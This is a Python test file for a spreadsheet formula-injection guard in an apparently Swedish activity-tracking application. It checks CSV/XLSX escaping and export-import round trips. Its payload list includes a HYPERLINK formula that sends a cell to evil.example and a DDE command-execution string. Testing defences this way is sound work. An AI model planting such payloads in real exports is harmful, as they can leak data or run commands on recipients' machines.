"""Formula injection (OWASP "CSV injection"): one guard for every CSV/XLSX export
(`lagesbild.export.cells`), and the round trip export → import for both templates."""
from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pandas as pd
import pytest

from lagesbild.domain import SYSTEM_ACTOR, ActivityStatus
from lagesbild.export import cells, meeting_pack
from lagesbild.importers import activities as tpl
from lagesbild.picture import load_live
from lagesbild.store.activities import ActivityInput, create_activity

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1;"klicka")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
            "=cmd|' /C calc'!A0", "-"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_text_is_guarded_and_unguarded(payload):
    guarded = cells.safe_cell(payload)
    assert guarded == "'" + payload
    assert cells.unsafe_cell(guarded) == payload


@pytest.mark.parametrize("value", [-5, -2.5, 0, 17, None, "", "vanlig text", "Bedömd 2026-01-05", "a=b", "'citat'", "1-2"])
def test_other_values_are_left_alone(value):
    assert cells.safe_cell(value) == value
    assert cells.unsafe_cell(value) == value


def _csv(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode()), "UTF-8 with BOM, for Excel"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_csv_guards_text_and_keeps_numbers_as_numbers():
    df = pd.DataFrame({"=rubrik": ["=1+1", "ok"], "tal": [-5, 3]})
    rows = _csv(cells.to_csv_bytes(df))
    assert rows == [["'=rubrik", "tal"], ["'=1+1", "-5"], ["ok", "3"]]


def test_xlsx_rows_are_text_not_formulas_and_numbers_stay_numbers():
    wb = openpyxl.Workbook()
    cells.append_rows(wb.active, [["=1+1", -5, "@SUM(A1)"]])
    a, b, c = wb.active[1]
    assert (a.data_type, a.value) == ("s", "'=1+1")
    assert (b.data_type, b.value) == ("n", -5)
    assert (c.data_type, c.value) == ("s", "'@SUM(A1)")


def test_meeting_decisions_csv_is_guarded():
    actions = pd.DataFrame([{"item_position": 1, "item_title": "", "carried_from": None, "kind": "atgard",
                             "text": "=HYPERLINK(\"http://x\")", "owner": "@polisen", "due_date": None, "done": False}])
    rows = _csv(meeting_pack.decisions_csv(actions))
    assert rows[1][2] == "'=HYPERLINK(\"http://x\")" and rows[1][3] == "'@polisen"


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_activity_export_guards_formulas_and_round_trips(store, kind):
    evil = ActivityInput(title="=HYPERLINK(\"http://evil.example\")", partner_id="polisen_syd", focus_area_id="trygghet",
                         status=ActivityStatus.PAGAENDE, description="-2+3 mer", follow_up="@SUM(A1)",
                         start_date=date(2026, 2, 1), external_id="+1+1")
    with store.transaction() as s:
        create_activity(s, SYSTEM_ACTOR, evil)
    with store.session() as s:
        pic = load_live(s)
    frame = tpl.export_frame(pic)
    data = tpl.to_csv(frame) if kind == "csv" else tpl.to_xlsx(frame, pic)
    if kind == "csv":
        row = _csv(data)[1]
    else:
        row = [c.value for c in openpyxl.load_workbook(io.BytesIO(data))["Aktiviteter"][2]]
    assert row[:3] == ["'+1+1", "'=HYPERLINK(\"http://evil.example\")", "'-2+3 mer"] and row[9] == "'@SUM(A1)"
    parsed = tpl.parse(data, f"export.{kind}", tpl.Lookups.from_picture(pic))
    assert parsed.rows[0][1].title == evil.title and parsed.rows[0][1].external_id == "+1+1"
    assert tpl.summary(tpl.preview(pic, parsed)) == {"ny": 0, "ändrad": 0, "oförändrad": 1}
